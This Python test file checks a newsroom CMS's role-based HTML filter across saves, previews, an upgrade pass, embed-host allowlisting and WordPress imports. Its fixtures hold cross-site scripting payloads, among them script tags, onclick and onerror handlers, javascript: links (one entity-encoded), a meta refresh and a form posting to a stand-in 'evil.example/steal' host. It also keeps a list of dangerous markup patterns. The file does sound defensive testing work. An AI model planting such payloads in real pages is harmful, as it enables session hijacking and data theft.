"""Staff HTML is filtered by role (docs/html-policy.md): the desk's saves and previews, the
unfiltered-HTML setting for editors, and a WordPress import counting what it removed."""

import html
import json
import os
import re
import sqlite3
import unittest

import harness
import wxr
from test_desk import PASSWORD, add_user
import test_editor

HOSTILE = (
    "Opening paragraph.\n\n"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n'
    "<script>alert(1)</script>\n\n"
    '<form action="https://evil.example/steal"><input name="q"><button formaction="https://evil.example/x">Go</button></form>\n\n'
    '<p style="position:fixed" onclick="alert(2)">Styled</p>\n\n'
    "[click](javascript:alert(3)) and <a href=\"&#106;avascript:alert(4)\">this</a>\n\n"
    '<iframe src="https://evil.example/frame"></iframe>\n\n'
    '<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315"></iframe>\n')

DANGEROUS = [b"<meta", b"<script", b"<form", b"<input", b"<button", b"formaction", b"style=",
             b"onclick", b"javascript:", b"evil.example"]


def body_of(page):
    """The article body of a public page or the desk's preview."""
    found = re.search(rb'<div class="article-body">(.*?)</div>', page, re.S)  # bodies here have no div
    assert found, page[:500]
    return found.group(1)


class HtmlFilter(unittest.TestCase):
    signed_in = test_editor.Workflow.signed_in
    create = test_editor.Workflow.create
    act = test_editor.Workflow.act

    @classmethod
    def setUpClass(cls):
        cls.server = harness.Server(env={"BROADSHEET_EMBED_HOSTS": "www.youtube-nocookie.com"})
        for email, role in [("editor@example.org", "editor"), ("writer@example.org", "contributor"),
                            ("author@example.org", "author"), ("admin@example.org", "administrator")]:
            done = add_user(cls.server, email, role, PASSWORD, role.capitalize() + " Person")
            assert done.returncode == 0, done.stderr
        cls.server.start()

    @classmethod
    def tearDownClass(cls):
        cls.server.close()

    def setUp(self):
        self.server.set_desk_setting("unfiltered_html", "0")

    def assertFiltered(self, html, where):
        for text in DANGEROUS:
            self.assertNotIn(text, html, f"{where}: {text!r} survived")

    def test_contributor_draft_is_filtered_in_preview_and_when_published(self):
        writer = self.signed_in("writer@example.org")
        status, headers, _, _ = self.create(writer, title="A Hostile Draft", body=HOSTILE)
        self.assertEqual(status, 303)
        post = headers["Location"].split("?")[0]
        # The Preview button without script: the article page, in a tab of its own.
        status, _, page, _ = self.act(writer, post, "preview", body=HOSTILE)
        self.assertEqual(status, 200)
        preview = body_of(page.encode())
        self.assertFiltered(preview, "desk preview")
        self.assertIn(b"Opening paragraph.", preview)
        # The live preview.
        status, _, fragment, _ = writer.request(
            "POST", "/admin/preview", {"csrf": html.unescape(re.search(
                r'data-token="([^"]+)"', writer.request("GET", post)[2]).group(1)), "body": HOSTILE})
        self.assertEqual(status, 200)
        self.assertFiltered(body_of(fragment.encode()), "live preview")
        # An editor publishes it (even with the setting on: the contributor's HTML stays filtered).
        self.server.set_desk_setting("unfiltered_html", "1")
        editor = self.signed_in("editor@example.org")
        status, _, page, _ = editor.request("GET", post)
        self.assertIn("HTML in this body is filtered", page)
        self.assertEqual(self.act(editor, post, "publish", body=HOSTILE)[0], 303)
        status, headers, page = self.server.get("/a-hostile-draft/")
        self.assertEqual(status, 200)
        self.assertFiltered(body_of(page), "published article")
        self.assertIn(b"Opening paragraph.", page)
        self.assertIn(b"<p>Styled</p>", page)
        self.assertIn(b'<iframe src="https://www.youtube-nocookie.com/embed/abc"', page)
        self.assertIn(b'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"', page)
        self.assertIn("frame-src 'self' https://www.youtube-nocookie.com",
                      headers["content-security-policy"])

    def test_the_setting_lets_editors_post_unfiltered_html_in_their_own_posts(self):
        editor = self.signed_in("editor@example.org")
        raw = '<p style="color: red" data-widget="x">Raw</p>\n'
        status, headers, _, _ = self.create(editor, title="Editor Raw Off", body=raw)
        self.assertEqual(status, 303)
        self.assertEqual(self.act(editor, headers["Location"].split("?")[0], "publish", body=raw)[0], 303)
        self.assertIn(b"<p>Raw</p>", self.server.get("/editor-raw-off/")[2])

        self.server.set_desk_setting("unfiltered_html", "1")
        status, headers, _, _ = self.create(editor, title="Editor Raw On", body=raw)
        post = headers["Location"].split("?")[0]
        self.assertIn("kept as you write it", editor.request("GET", post)[2])
        self.assertEqual(self.act(editor, post, "publish", body=raw)[0], 303)
        self.assertIn(b'<p style="color: red" data-widget="x">Raw</p>', self.server.get("/editor-raw-on/")[2])

        # An author's own post stays filtered with the setting on.
        author = self.signed_in("author@example.org")
        status, headers, _, _ = self.create(author, title="Author Raw", body=raw)
        self.assertEqual(self.act(author, headers["Location"].split("?")[0], "publish", body=raw)[0], 303)
        self.assertIn(b"<p>Raw</p>", self.server.get("/author-raw/")[2])

    def test_settings_page_shows_and_saves_the_setting(self):
        editor = self.signed_in("editor@example.org")
        # Editors cannot change it; administrators see it, off by default.
        self.assertEqual(editor.request("GET", "/admin/settings")[0], 403)
        admin = self.signed_in("admin@example.org")
        status, _, page, _ = admin.request("GET", "/admin/settings")
        self.assertEqual(status, 200)
        box = re.search(r'<input id="unfiltered_html" name="unfiltered_html"[^>]*>', page)
        self.assertIsNotNone(box)
        self.assertNotIn("checked", box.group(0))
        self.server.set_desk_setting("unfiltered_html", "1")
        page = admin.request("GET", "/admin/settings")[2]
        self.assertIn("checked", re.search(r'<input id="unfiltered_html"[^>]*>', page).group(0))


class LivePreviewFollowsTheSave(unittest.TestCase):
    """The live preview shows what the save would store: raw for an editor's own post with the
    setting on, filtered for a contributor's post whoever previews it."""
    signed_in = test_editor.Workflow.signed_in
    create = test_editor.Workflow.create

    @classmethod
    def setUpClass(cls):
        cls.server = harness.Server()
        for email, role in [("editor@example.org", "editor"), ("writer@example.org", "contributor")]:
            done = add_user(cls.server, email, role, PASSWORD, role.capitalize() + " Person")
            assert done.returncode == 0, done.stderr
        cls.server.start()

    @classmethod
    def tearDownClass(cls):
        cls.server.close()

    def live_preview(self, browser, post_path, body):
        page = browser.request("GET", post_path)[2]
        frame = re.search(r'<iframe class="editor-preview-frame"[^>]*>', page).group(0)
        token = html.unescape(re.search(r'data-token="([^"]+)"', frame).group(1))
        post = re.search(r'data-post="([0-9]+)"', frame).group(1)
        status, _, fragment, _ = browser.request("POST", "/admin/preview",
                                                 {"csrf": token, "post": post, "body": body})
        self.assertEqual(status, 200)
        return body_of(fragment.encode())

    def test_live_preview_applies_the_saves_rule(self):
        raw = '<p style="color: red" data-widget="x">Raw</p>\n'
        self.server.set_desk_setting("unfiltered_html", "1")
        editor = self.signed_in("editor@example.org")
        self.assertIn(b'<p style="color: red" data-widget="x">Raw</p>',
                      self.live_preview(editor, "/admin/posts/new", raw))
        status, headers, _, _ = self.create(editor, title="Editor Preview", body=raw)
        own = headers["Location"].split("?")[0]
        self.assertIn(b'<p style="color: red" data-widget="x">Raw</p>', self.live_preview(editor, own, raw))

        writer = self.signed_in("writer@example.org")
        status, headers, _, _ = self.create(writer, title="Writer Preview", body=raw)
        theirs = headers["Location"].split("?")[0]
        self.assertIn(b"<p>Raw</p>", self.live_preview(writer, theirs, raw))
        self.assertIn(b"<p>Raw</p>", self.live_preview(editor, theirs, raw))
        # A contributor naming the editor's post gets no preview of it: it is not theirs to edit.
        self.assertIn(b"<p>Raw</p>", self.live_preview(writer, "/admin/posts/new", raw))
        page = writer.request("GET", "/admin/posts/new")[2]
        token = html.unescape(re.search(r'data-token="([^"]+)"', page).group(1))
        own_id = own.rsplit("/", 1)[1]
        status, _, fragment, _ = writer.request("POST", "/admin/preview",
                                                {"csrf": token, "post": own_id, "body": raw})
        self.assertEqual(status, 403)
        self.assertNotIn("Raw", fragment)

        self.server.set_desk_setting("unfiltered_html", "0")
        self.assertIn(b"<p>Raw</p>", self.live_preview(editor, own, raw))


# Bodies as a database from before the filter holds them.
STORED_HOSTILE = ('<p>Old body</p><script>alert(1)</script><img src="x.png" onerror="alert(2)">'
                  '<iframe src="https://evil.example/frame"></iframe>'
                  '<a href="javascript:alert(3)">link</a><p style="position:fixed">Styled</p>')
STORED_RAW = '<p style="color: red" data-widget="x">Editor raw</p>'


class UpgradeRefiltersStoredHtml(unittest.TestCase):
    def test_bodies_stored_before_the_filter_are_filtered_once_at_start(self):
        server = harness.Server()
        try:
            done = add_user(server, "editor@example.org", "editor", PASSWORD, "Ed Itor")
            self.assertEqual(done.returncode, 0, done.stderr)
            with server.database() as db:
                editor = db.execute("SELECT id FROM users WHERE email = 'editor@example.org'").fetchone()[0]
                db.execute("UPDATE posts SET body_html = ? WHERE slug = 'why-deterrence-still-works'", (STORED_HOSTILE,))
                db.execute("UPDATE posts SET body_html = ?, created_by = ? WHERE slug = 'about'",
                           (STORED_RAW, editor))
                db.execute("UPDATE authors SET bio_html = ? WHERE slug = 'jane-doe'",
                           ("<p>Jane<script>alert(4)</script></p>",))
                db.execute("DELETE FROM secrets WHERE name LIKE 'upgrade:%'")
            db.close()
            server.set_desk_setting("unfiltered_html", "1")

            server.start()
            logged = "".join(server.log)
            self.assertRegex(logged, r"HTML filter upgrade: 1 of 2 post bodies changed \(1 kept raw")
            self.assertRegex(logged, r"1 of 1 author bios changed")
            status, _, page = server.get("/why-deterrence-still-works/")
            self.assertEqual(status, 200)
            body = body_of(page)
            self.assertIn(b"Old body", body)
            for text in [b"<script", b"onerror", b"evil.example", b"javascript:", b"style="]:
                self.assertNotIn(text, body)
                self.assertNotIn(text, server.get("/feed/")[2])
            self.assertNotIn(b"alert(4)", page)
            # The editor's post with the setting on stays as the editor wrote it.
            self.assertIn(STORED_RAW.encode(), server.get("/about/")[2])
            server.stop()

            done = harness.run("export", "json", "-", "--site", server.site)
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertNotIn("<script", done.stdout)
            self.assertNotIn("filtered HTML stored before", done.stderr)  # already done

            with server.database() as db:
                before = db.execute("SELECT id, body_html FROM posts ORDER BY id").fetchall()
            db.close()
            server.start()
            self.assertNotIn("HTML filter upgrade", "".join(server.log))
            server.stop()
            with server.database() as db:
                self.assertEqual(db.execute("SELECT id, body_html FROM posts ORDER BY id").fetchall(), before)
            db.close()
        finally:
            server.close()

    def test_an_export_filters_first_when_the_site_was_not_served_since(self):
        server = harness.Server()
        try:
            with server.database() as db:
                db.execute("UPDATE posts SET body_html = ? WHERE slug = 'why-deterrence-still-works'", (STORED_HOSTILE,))
                db.execute("DELETE FROM secrets WHERE name LIKE 'upgrade:%'")
            db.close()
            done = harness.run("export", "json", "-", "--site", server.site)
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertIn("Old body", done.stdout)
            for text in ["<script", "onerror", "evil.example", "javascript:"]:
                self.assertNotIn(text, done.stdout)
            self.assertIn("filtered HTML stored before the HTML filter: 1 post", done.stderr)
        finally:
            server.close()


EMBEDS = ('<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315"></iframe>\n\n'
          '<iframe src="https://evil.example/frame"></iframe>\n')


def environment(embed_hosts):
    """The process environment with BROADSHEET_EMBED_HOSTS set, or unset for None."""
    env = {k: v for k, v in os.environ.items() if k != "BROADSHEET_EMBED_HOSTS"}
    if embed_hosts is not None:
        env["BROADSHEET_EMBED_HOSTS"] = embed_hosts
    return env


class ImportsUseTheSitesEmbedHosts(unittest.TestCase):
    def assertEmbedsFiltered(self, html_text, where):
        self.assertIn('<iframe src="https://www.youtube-nocookie.com/embed/abc"', html_text, where)
        self.assertNotIn("evil.example", html_text, where)

    def test_cli_imports_and_restore_keep_iframes_from_allowed_hosts_only(self):
        server = harness.Server()
        env = environment("www.youtube-nocookie.com")
        try:
            folder = os.path.join(server.dir, "more")
            harness.write_tree(folder, {"posts/embeds.md": "---\ntitle: Embeds\n---\nText.\n\n" + EMBEDS})
            done = harness.run("import", "markdown", folder, "--site", server.site, env=env)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr)

            item = wxr.post_item(1).replace("<content:encoded><![CDATA[",
                                            "<content:encoded><![CDATA[" + EMBEDS, 1)
            path = os.path.join(server.dir, "embeds.xml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(wxr.HEAD + wxr.channel_terms() + item + wxr.TAIL)
            done = harness.run("import", "wordpress", path, "--site", server.site, env=env)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr)

            with server.database() as db:
                bodies = dict(db.execute("SELECT slug, body_html FROM posts").fetchall())
            db.close()
            self.assertEmbedsFiltered(bodies["embeds"], "content folder")
            wordpress = [html_text for slug, html_text in bodies.items() if "generated-analysis-1" in slug]
            self.assertEqual(len(wordpress), 1, list(bodies))
            self.assertEmbedsFiltered(wordpress[0], "WordPress")

            # The JSON restore, into a new site with the same embed hosts (and one without).
            export = os.path.join(server.dir, "site.json")
            done = harness.run("export", "json", export, "--site", server.site, env=env)
            self.assertEqual(done.returncode, 0, done.stderr)
            for hosts, kept in [("www.youtube-nocookie.com", True), (None, False)]:
                copy = os.path.join(server.dir, "copy-" + str(kept))
                self.assertEqual(harness.run("init", copy).returncode, 0)
                done = harness.run("import", "json", export, "--site", copy,
                                   env=environment(hosts))
                self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
                with sqlite3.connect(os.path.join(copy, "broadsheet.db"), timeout=10) as db:
                    restored = db.execute("SELECT body_html FROM posts WHERE slug = 'embeds'").fetchone()[0]
                db.close()
                self.assertNotIn("evil.example", restored)
                self.assertEqual('<iframe src="https://www.youtube-nocookie.com/embed/abc"' in restored, kept)

            # Without the setting, the same import removes both.
            other = harness.Server(content=None)
            try:
                done = harness.run("import", "markdown", folder, "--site", other.site,
                                   env=environment(None))
                self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
                with other.database() as db:
                    body = db.execute("SELECT body_html FROM posts WHERE slug = 'embeds'").fetchone()[0]
                db.close()
                self.assertNotIn("<iframe", body)
            finally:
                other.close()
        finally:
            server.close()


class WordPressImportFilter(unittest.TestCase):
    def test_import_removes_hostile_markup_and_counts_it(self):
        server = harness.Server()
        try:
            item = wxr.post_item(1).replace(
                "<content:encoded><![CDATA[",
                "<content:encoded><![CDATA[<script>alert(1)</script>"
                '<p onclick="alert(2)" style="color:red">Imported</p>'
                '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
                '<a href="javascript:alert(3)">link</a>', 1)
            path = os.path.join(server.dir, "hostile.xml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(wxr.HEAD + wxr.channel_terms() + item + wxr.TAIL)
            done = harness.run("import", "wordpress", path, "--site", server.site)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
            line = re.search(r"^filtered: +(.*) removed from bodies", done.stdout, re.M)
            self.assertIsNotNone(line, done.stdout)
            self.assertIn("2 elements", line.group(1))
            self.assertIn("2 attributes", line.group(1))
            self.assertIn("1 address", line.group(1))
            server.start()
            status, _, page = server.get("/generated-analysis-1/")
            if status == 404:
                status, _, page = server.get("/2019/02/02/generated-analysis-1/")
            self.assertEqual(status, 200)
            body = body_of(page)
            self.assertIn(b"Imported", body)
            for text in [b"<script", b"onclick", b"style=", b"<meta", b"javascript:"]:
                self.assertNotIn(text, body)
        finally:
            server.close()


if __name__ == "__main__":
    unittest.main()
